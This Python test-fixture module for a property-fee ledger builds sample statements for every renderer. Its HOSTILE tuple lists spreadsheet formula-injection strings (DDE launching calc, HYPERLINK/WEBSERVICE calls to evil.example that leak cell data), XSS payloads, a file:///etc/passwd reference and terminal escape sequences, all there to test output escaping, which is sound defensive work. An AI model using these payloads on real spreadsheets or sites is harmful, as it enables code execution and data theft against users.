"""Statements built by hand, one of every kind of block, for every format to render."""

from __future__ import annotations

from trustledger.document import (
    Bar,
    Bars,
    Check,
    Column,
    Due,
    Grid,
    Pair,
    Part,
    Share,
    Shares,
    Signatures,
    Split,
    Statement,
    Table,
    Words,
)
from trustledger.money import capitals
from trustledger.period import Period

ROOT = "9f2c4e1ab07d53c86ef1920a7b4d8c35e6f0a1b2c3d4e5f60718293a4b5c6d7e"

HOSTILE = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "=",
    "-",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\tplain after a tab",
    "\rplain after a return",
    "\nplain after a line break",
    "\0plain after a NUL",
    "   =1+1",
    "\u3000＝1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "%0D=1+1",
    ";=1+1",
    ',=1+1,"',
    '","=1+1',
    '"=1+1"',
    "\ufeff=1+1",
    "line one\n=1+1",
    "line one\r\n@SUM(A1)",
    "http://evil.example/",
    "https://evil.example/?a=1&b=2",
    "ftp://evil.example/x",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "</td></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=http://evil.example></iframe>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "<a href='http://evil.example'>x</a>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "]]><script>alert(1)</script>",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31mC1",
    "\u202e00.000,1\u202c",
    "\u2066isolated\u2069",
    "a\u200bb\ufeffc",
    "_x0041_ _x000D_",
    "\ufffe\uffff",
    "عربي 123 עברית",
    "e\u0301\u0301 邉\U000e0100 👨\u200d👩\u200d👧",
)
"""Texts that somebody could type as a name or a memo, and that some program would obey."""

OWNER = Statement(
    name="owner",
    title="业主对账单",
    community="平安社区",
    book="pingan",
    period=Period("2024-01", "2024-03"),
    subject="3-1-502",
    facts={
        "unit": "3-1-502",
        "opening_arrears": "187.54",
        "opening_prepaid": "0.00",
        "charged": "562.62",
        "received": "750.00",
        "refunded": "0.00",
        "waived": "0.00",
        "late_fee": "0.28",
        "closing_arrears": "0.44",
        "closing_prepaid": "0.00",
    },
    blocks=(
        Grid(
            "about",
            "基本情况",
            (
                Pair("业主", "欧阳修远"),
                Pair("房号", "3-1-502"),
                Pair("建筑面积", "89.12 ㎡"),
                Pair("收费标准", "2.10 元/㎡·月"),
                Pair("计费户数", 1, "count"),
                Pair("收缴率", "0.9994", "rate"),
            ),
        ),
        Due("due", "期末应缴", 44, capitals(44), "请于2024年4月30日前缴至业主共有资金账户。"),
        Table(
            "entries",
            "本期明细",
            (
                Column("date", "日期", "date", 1.2),
                Column("what", "摘要", "text", 3.0),
                Column("charged", "应收", "amount", 1.2),
                Column("received", "实收", "amount", 1.2),
                Column("balance", "余额", "amount", 1.2),
            ),
            (
                (None, "期初欠费", None, None, 18754),
                ("2024-01-01", "2024年1月物业费", 18754, None, 37508),
                ("2024-01-31", "违约金（逾期本金187.54元，日利率万分之五，3天）", 28, None, 37536),
                ("2024-02-01", "2024年2月物业费", 18754, None, 56290),
                ("2024-02-05", "银行转账　流水号W2024-0113", None, 75000, -18710),
                ("2024-03-01", "2024年3月物业费", 18754, None, 44),
            ),
            ((None, "合计", 56290, 75000, 44),),
            "余额为负表示预缴。",
        ),
        Words(
            "how",
            "收款如何入账",
            (
                "一笔收款先冲抵最早的一笔应收，先违约金后本金；多出的部分转作预收，在下月应收发生时自动冲抵。",
            ),
        ),
    ),
    checks=(Check("期初欠费＋应收－实收＝期末欠费", 44, 44),),
    size=1204,
    root=ROOT,
)


_HEADS = Column("n", "人数", "count")


def income_expenditure(*texts: str) -> Statement:
    """The public statement, with a row of income and of spending for every text given."""
    texts = texts or ("洁美保洁服务有限公司", "平安社区物业服务部")
    income = tuple((text, 1_200_000, "0.1234", 3) for text in texts)
    spending = tuple(("2024-01-20", text, text, -44_032) for text in texts)
    taken, spent = 1_200_000 * len(texts), -44_032 * len(texts)
    return Statement(
        name="income_expenditure",
        title="收支公示表",
        community="平安社区",
        book="pingan",
        period=Period("2024-01", "2024-06"),
        facts={
            "opening": "88120.50",
            "income": {"service_fee": "12000.00", "parking": "0.00"},
            "remuneration": "-440.32",
            "entries": 12,
        },
        blocks=(
            Grid(
                "balance",
                "资金结余",
                (
                    Pair("期初结余", 8_812_050, "amount"),
                    Pair("期末结余", 8_812_050 + taken - spent, "amount"),
                    Pair("备注", texts[0]),
                ),
            ),
            Split(
                "share",
                "每一元钱的去向",
                (Part("业主共有", 1_056_000), Part("受托人酬金", 144_000)),
                "酬金按信托合同约定计提。",
            ),
            Table(
                "income",
                "收入",
                (
                    Column("name", "项目", "text", 3.0),
                    Column("amount", "本期金额", "amount"),
                    Column("rate", "占比", "rate"),
                    Column("count", "笔数", "count"),
                ),
                income,
                (("合计", taken, "1.0000", 3 * len(texts)),),
            ),
            Table(
                "expenditure",
                "支出",
                (
                    Column("date", "日期", "date"),
                    Column("payee", "收款人", "text", 2.0),
                    Column("memo", "摘要", "text", 2.0),
                    Column("amount", "金额", "amount"),
                ),
                spending,
                ((None, "合计", None, spent),),
                texts[0],
            ),
            Bars(
                "budget",
                "预算执行",
                (
                    Bar("A01 管理服务人员费用", 24_000_000, 11_830_000),
                    Bar("A03 清洁卫生费", 7_200_000, 7_200_000),
                    Bar("A05 秩序维护费", 9_600_000, 10_080_000),
                    Bar("A09 其他费用", 500_000, 0),
                ),
                "预算经业主大会2023年12月20日决议通过。",
            ),
            Words("notes", "说明", texts),
            Signatures("sign", ("受托人", "业主委员会", "监察人")),
        ),
        checks=(
            Check("期初＋收入－支出＝期末", 8_812_050 + taken - spent, 8_812_050 + taken - spent),
            Check("资金余额＝银行存款", 8_812_050, 8_812_050),
        ),
        size=28_417,
        root=ROOT,
    )


EMPTY = Statement(
    name="collection",
    title="收缴情况表",
    community="新社区",
    book="new",
    period=Period("2024-01", "2024-12"),
    facts={},
    blocks=(
        Table(
            "units",
            "分户情况",
            (Column("unit", "房号"), Column("charged", "应收", "amount")),
            (),
        ),
        Split("how", "收缴", ()),
        Bars("bars", "预算执行", ()),
        Shares("shares", "一元钱的去向", Column("amount", "金额", "amount"), ()),
        Grid("none", "", ()),
        Words("words", "", ()),
    ),
    checks=(),
    size=0,
    root=ROOT,
)


def with_texts(text: str) -> Statement:
    """A statement in which every text that a user could have given is this one."""
    blocks = (
        Table(
            "t",
            text,
            (Column("x", text), Column("y", text, "amount"), Column("z", text, "rate")),
            ((text, -44_032, "0.8812"), (text, text, text)),
            ((text, 1_200_000, None),),
            text,
        ),
        Grid("g", text, (Pair(text, text), Pair(text, text, "date"), Pair(text, text, "rate"))),
        Due("d", text, -44_032, text, text),
        Split("s", text, (Part(text, 1), Part(text, 2)), text),
        Bars("b", text, (Bar(text, 2, 1),), text),
        Shares("h", text, _HEADS, (Share(text, 2, 2), Share(text, 0, 0)), text),
        Words("w", text, (text, text)),
        Signatures("z", (text, text)),
    )
    return Statement(
        name="income_expenditure",
        title=text,
        community=text,
        book=text,
        period=Period("2024-01", "2024-01"),
        facts={"unit": text, "income": {text: "12.00"}},
        blocks=blocks,
        checks=(Check(text, 1, 1),),
        size=1,
        root=ROOT,
        subject=text,
    )
